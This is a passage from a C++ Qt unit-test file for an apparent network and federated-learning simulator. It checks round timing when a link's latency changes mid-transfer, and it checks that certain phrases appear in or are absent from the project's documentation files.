        // shared); compute takes 1 microsecond. The link's latency goes from 0 to 500 ms at
        // 0.4 s, during the download. Rule (docs/network.md): a transfer keeps the latency it
        // started with. Download: 2 s (was 2.5 s: the shared flows took the new latency);
        // upload (started after the change): 2 s + 0.5 s. Round 1 ends at 4.500001 s.
        const std::string yaml = "name: latency\n"
                                 "topology:\n"
                                 "  contention: true\n"
                                 "  nodes:\n"
                                 "    - {id: server, tier: cloud, role: aggregator}\n"
                                 "  groups:\n"
                                 "    - {id: phones, count: 2, role: trainer, parent: server, link_sharing: shared,\n"
                                 "       compute: {throughput: 1000000, noise: {kind: none}},\n"
                                 "       link: {bandwidth_up_mbps: 8, bandwidth_down_mbps: 8, latency_ms: 0}}\n"
                                 "data: {dataset: none, samples_per_trainer: 1}\n"
                                 "model: {kind: none, wire_bytes: 1000000}\n"
                                 "training: {batch_size: 1, local_steps: 1}\n"
                                 "stop: {rounds: 1}\n"
                                 "events:\n"
                                 "  - {at: 0.4, link: {id: phones, latency_ms: 500}}\n";
        Scenario s;
        try {
            s = loadScenarioText(yaml, "latency.yaml");
        } catch (const ScenarioError& e) {
            QFAIL(e.what());
        }
        Recorder rec;
        runScenario(s, rec);
        const auto rounds = rec.level(0);
        QCOMPARE(rounds.size(), std::size_t(1));
        QVERIFY2(std::abs(rounds[0].time - 4.500001) < 1e-9, qPrintable(QString::number(rounds[0].time, 'g', 17)));
    } else if (kind == "docs-applied") {
        for (const char* doc : {"docs/scenario.md", "docs/emulator.md", "README.md"}) {
            QFile f(QString(FOG_SOURCE_DIR) + "/" + doc);
            QVERIFY(f.open(QIODevice::ReadOnly));
            const QString text = QString::fromUtf8(f.readAll());
            QVERIFY2(!text.contains("not yet applied"), doc);
        }
    } else if (kind == "docs-serverless") {
        // Both say what the engine does (tests/test_network, serverlessJobCutPaysItsSeconds...):
        // a cut job pays its compute seconds up to the cut.
        for (const char* doc : {"docs/network.md", "docs/emulator.md"}) {
            QFile f(QString(FOG_SOURCE_DIR) + "/" + doc);
            QVERIFY(f.open(QIODevice::ReadOnly));
            const QString text = QString::fromUtf8(f.readAll()).simplified();
            QVERIFY2(text.contains("up to the cut"), doc);
            QVERIFY2(!text.contains("the steps it finished when a job is cut"), doc);
        }
    }
}

QTEST_GUILESS_MAIN(TestHardening2)
#include "test_hardening2.moc"
